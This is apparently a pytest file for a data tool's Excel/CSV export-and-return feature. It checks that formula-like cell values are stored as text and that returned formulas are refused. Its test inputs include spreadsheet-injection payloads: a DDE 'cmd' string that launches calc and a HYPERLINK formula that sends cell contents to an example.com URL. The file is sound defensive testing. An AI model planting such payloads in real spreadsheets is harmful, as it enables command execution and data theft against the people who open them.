"""Attack: a formula in the exported Excel sheet, or in one that comes back."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from curate.quarantine import take_back
from curate.quarantine.workbook import Row, Sheet, write_workbook
from curate.returned import Store
from tests.quarantine import owner

FORMULAS = [
    '=HYPERLINK("http://example.com/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "{=SUM(A1:A9)}",
    "http://example.com/steal",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_data_that_looks_like_a_formula_is_text_in_the_sheet(tmp_path: Path, value: str) -> None:
    sheet = Sheet(
        "companies", {"intro": "简介"}, {}, [Row(f"companies:{value}", [value], {"intro": value})], 1, 1
    )
    write_workbook(tmp_path / "表.xlsx", [sheet], "run", "masked", ["说明"])
    cells = list(load_workbook(tmp_path / "表.xlsx")["companies"][2])
    assert cells[-1].value == value.replace("\r", "\n")
    assert {cell.data_type for cell in cells} == {"s"}
    # in a cell of the format @, Excel keeps as text what is typed into it again
    assert {cell.number_format for cell in cells} == {"@"}
    assert not any(cell.hyperlink for cell in cells)
    with zipfile.ZipFile(tmp_path / "表.xlsx") as packed:
        parts = {name: packed.read(name) for name in packed.namelist()}
    assert not any(b"<f>" in part or b"<f " in part or b"<hyperlink" in part for part in parts.values())


@pytest.fixture
def sheet(tmp_path: Path) -> Path:
    """The sheet of a workspace in which rows failed."""
    from curate.quarantine import write_sheet

    run = owner.run_of(owner.make(tmp_path / "ws"))
    return write_sheet(run, tmp_path / "表.xlsx").sheet


def test_a_returned_formula_is_refused_with_its_place(tmp_path: Path, sheet: Path) -> None:
    cells = {("companies:C101", "公司名称"): "=1+1", ("companies:C102", "员工人数"): "50"}
    taken = take_back(tmp_path / "ws", owner.edit(sheet, tmp_path / "改好.xlsx", cells), by="王芳")
    assert taken.told == ["companies 第 2 行“公司名称”是公式，没有收：请写值"]
    assert [(line.row_id, line.column, line.value) for line in taken.lines] == [
        ("companies:C102", "staff", "50")
    ]


@pytest.mark.parametrize(
    ("typed", "taken_as", "told"),
    [
        ("=1+1", None, "以 = 开头"),
        (" =cmd|' /C calc'!A0", None, "以 = 开头"),
        ("@SUM(1+1)", "@SUM(1+1)", "按文字收下"),
        ("+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "按文字收下"),
        ("+86 21 5555 0000", "+86 21 5555 0000", None),
    ],
)
def test_a_formula_in_a_returned_csv_is_refused_or_taken_as_text(
    tmp_path: Path, sheet: Path, typed: str, taken_as: str | None, told: str | None
) -> None:
    import csv

    file = tmp_path / "改好.csv"
    with file.open("w", encoding="utf-8-sig", newline="") as opened:
        for row in load_workbook(sheet)["companies"].values:
            cells = ["" if cell is None else str(cell) for cell in row]
            csv.writer(opened).writerow([typed if cell == "35" else cell for cell in cells])
    taken = take_back(tmp_path / "ws", file, by="王芳", anyway=True)
    assert [line.value for line in taken.lines] == ([taken_as] if taken_as else [])
    assert len(taken.told) == (told is not None)
    assert all(told in sentence for sentence in taken.told if told)


def test_a_formula_that_was_in_the_data_is_not_returned_when_nobody_touched_it(
    tmp_path: Path, sheet: Path
) -> None:
    taken = take_back(tmp_path / "ws", sheet, by="王芳")
    assert (taken.lines, taken.told, taken.untouched) == ([], [], 4)
    assert not Store(tmp_path / "ws").file.exists()
